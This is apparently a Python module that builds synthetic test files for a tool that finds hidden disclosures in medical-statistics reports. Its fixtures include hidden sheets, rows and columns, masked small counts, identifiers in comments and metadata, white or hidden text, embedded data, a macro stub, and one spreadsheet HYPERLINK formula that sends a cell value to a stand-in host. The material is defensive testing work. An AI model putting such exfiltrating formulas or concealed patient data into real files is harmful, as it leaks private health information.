"""Workbooks, documents and PDF with hidden or embedded leaks."""

import io
import zipfile

import docx
import openpyxl
import pikepdf
from docx.shared import Pt
from openpyxl.comments import Comment
from reportlab.lib.colors import white
from reportlab.pdfgen import canvas

from .tools import ipp, nir, split


def book(rows, title="Résultats"):
    wb = openpyxl.Workbook()
    wb.properties.creator = ""
    ws = wb.active
    ws.title = title
    for row in rows:
        ws.append(row)
    return wb, ws


def document(title, paras, head=(), rows=()):
    d = docx.Document()
    d.core_properties.author = ""
    d.core_properties.comments = ""
    d.add_heading(title, 1)
    for p in paras:
        d.add_paragraph(p)
    if head:
        t = d.add_table(1, len(head))
        t.style = "Light Grid Accent 1"
        for c, h in zip(t.rows[0].cells, head):
            c.text = h
        for row in rows:
            for c, v in zip(t.add_row().cells, row):
                c.text = str(v)
    return d


def pdf(path, lines, **more):
    c = canvas.Canvas(str(path))
    c.setTitle(more.get("title", "Report"))
    c.setAuthor("")
    y = 790
    for each in lines:
        c.setFont("Helvetica", 10)
        c.drawString(50, y, each)
        y -= 17
    for x, y, each in more.get("white", ()):
        c.setFillColor(white)
        c.drawString(x, y, each)
    c.save()


def write(shelf):
    r = shelf.random("office")
    wb, ws = book(
        [
            ["Pôle", "Séjours", "DMS médiane (j)"],
            ["Médecine", 8120, 5],
            ["Chirurgie", 6410, 3],
            ["Gériatrie", 2240, 11],
            ["Pneumologie", 1890, 6],
        ]
    )
    h = wb.create_sheet("extraction")
    h.append(["num", "age", "sexe", "ghm"])
    [h.append([i, r.randint(20, 88), r.choice("MF"), "05M09" + str(r.randint(1, 4))]) for i in range(150)]
    h.sheet_state = "veryHidden"
    wb.save(
        shelf.unsafe(
            "off/poles_2023.xlsx",
            "rows of stays in a very hidden sheet",
            "sheet extraction",
            "Activité et DMS par pôle.",
            "18 660 séjours",
        )
    )
    wb, ws = book(
        [
            ["Complication", "n", "%"],
            ["None", 1204, 83.3],
            ["Bleeding", 131, 9.1],
            ["Leak", 65, 4.5],
            ["Re-operation", 41, 2.8],
            ["Death", 4, 0.3],
        ],
        "Table 3",
    )
    ws.row_dimensions[6].hidden = True
    wb.save(
        shelf.unsafe(
            "off/table3_sleeve.xlsx",
            "small cell in a hidden row",
            "row 6",
            "Complications after sleeve gastrectomy.",
            "1 445 patients",
        )
    )
    wb, ws = book(
        [["Unité", "Patients", "Chutes pour 1000 j", "clé"]]
        + [
            [f"UF {2100 + i * 10}", k, t, ipp(r)]
            for i, (k, t) in enumerate(zip(split(r, 3300, 7, 150), (5.1, 6.2, 4.4, 7.0, 5.8, 3.9, 6.6)))
        ]
    )
    ws.column_dimensions["D"].hidden = True
    wb.save(
        shelf.unsafe(
            "off/chutes.xlsx", "IPP in a hidden column", "column D", "Taux de chutes par unité.", "3 300 patients"
        )
    )
    wb, ws = book(
        [
            ["Regimen", "Patients"],
            ["R-CHOP", 512],
            ["R-bendamustine", 208],
            ["Pola-R-CHP", 97],
            ["CAR-T", 7],
            ["Total", 824],
        ],
        "Regimens",
    )
    ws["B5"].number_format = '"<10"'
    wb.save(
        shelf.unsafe(
            "off/regimens.xlsx",
            "the number format hides a small cell",
            "B5 shown as <10, value 7",
            "First-line regimens in lymphoma.",
            "824 patients",
        )
    )
    wb, ws = book([["Centre", "Inclus", "Cible"], ["A", 212, 250], ["B", 187, 200], ["C", 141, 150]])
    ws["B3"].comment = Comment(f"dont NIR {nir(r)} à vérifier", "")
    wb.save(
        shelf.unsafe(
            "off/inclusions_centres.xlsx",
            "a NIR in a cell comment",
            "comment of B3",
            "Inclusions par centre.",
            "540 patients inclus",
        )
    )
    wb, ws = book(
        [
            ["Item", "Value"],
            ["Stays", 4020],
            ["Median age", 71],
            ["Link", '=HYPERLINK("http://collect.example/?x="&B2,"open")'],
        ],
        "KPI",
    )
    wb.save(
        shelf.unsafe(
            "off/kpi_link.xlsx",
            "formula that sends data out (injection)",
            "B4",
            "Key figures of the stroke unit.",
            "4 020 stays",
        )
    )
    d = document(
        "Résultats principaux",
        [
            "La mortalité à un an était de 20,0 % (172/860) dans le groupe précoce et de 25,0 % (155/620) dans le groupe tardif."
        ],
    )
    run = d.add_paragraph().add_run("Patient exclu : M. Raymond CHEVALLIER, 3 rue des Tilleuls, 94000 Créteil")
    run.font.hidden = True
    run.font.size = Pt(8)
    d.save(
        shelf.unsafe(
            "off/resultats_hanche.docx",
            "hidden text with name and address",
            "last paragraph, vanish",
            "Texte des résultats.",
            "1 480 patients",
        )
    )
    b = io.BytesIO()
    e, _es = book([["pid", "age", "ef"]] + [[i, r.randint(30, 88), r.randint(15, 65)] for i in range(200)])
    e.save(b)
    p = shelf.unsafe(
        "off/echo_report.docx",
        "a workbook with rows is embedded in the document",
        "word/embeddings/data.xlsx",
        "Report on ejection fraction.",
        "2 210 echocardiographies",
    )
    document(
        "Ejection fraction",
        ["Median ejection fraction was 52% [43-60] in 2210 patients."],
        ["Class", "n"],
        [["< 40%", 420], ["40-49%", 510], ["≥ 50%", 1280]],
    ).save(p)
    with zipfile.ZipFile(p, "a") as z:
        z.writestr("word/embeddings/data.xlsx", b.getvalue())
    d = document("Follow-up", ["Of 2 310 patients, 1 848 (80.0%) had a visit at one year."])
    d.core_properties.keywords = f"case {ipp(r)}"
    d.core_properties.subject = "Mme Colette BRUNEAU"
    d.save(
        shelf.unsafe(
            "off/followup.docx",
            "name of a patient in the document properties",
            "core properties subject and keywords",
            "Follow-up paragraph of the paper.",
            "2 310 patients",
        )
    )
    pdf(
        shelf.unsafe(
            "off/rapport_bmr.pdf",
            "white text with a small cell",
            "white line under the table",
            "Rapport sur les bactéries multirésistantes.",
            "6 020 patients dépistés",
        ),
        [
            "Bactéries multirésistantes 2023 (N = 6020 patients dépistés)",
            "EBLSE            602 (10,0 %)",
            "SARM             181 (3,0 %)",
            "Négatifs        5237 (87,0 %)",
        ],
        white=[(50, 500, "dont décès imputables : 4 patients")],
        title="BMR",
    )
    p = shelf.unsafe(
        "off/annual_report.pdf",
        "CSV of rows attached to a PDF",
        "attachment lines.csv",
        "Annual report of the dialysis unit.",
        "1 140 dialysis patients",
    )
    b = io.BytesIO()
    c = canvas.Canvas(b)
    c.drawString(60, 780, "Dialysis unit, annual report: 1140 patients, 61.0% men, median age 68")
    c.save()
    b.seek(0)
    with pikepdf.open(b) as q:
        q.attachments["lines.csv"] = (
            "id,age,ktv,access\n"
            + "".join(
                f"{i},{r.randint(20, 88)},{r.uniform(1, 2):.2f},{r.choice(['AVF', 'KTC'])}\n" for i in range(120)
            )
        ).encode()
        q.save(p)
    p = shelf.unsafe(
        "off/macro_table.xlsm",
        "a workbook with a macro",
        "xl/vbaProject.bin",
        "Tableau de bord avec bouton d'actualisation.",
        "12 300 séjours",
    )
    wb, ws = book([["Année", "Séjours"], [2022, 6100], [2023, 6200]])
    wb.save(p)
    with zipfile.ZipFile(p, "a") as z:
        z.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b'Attribute VB_Name = "Module1"\0' * 40)
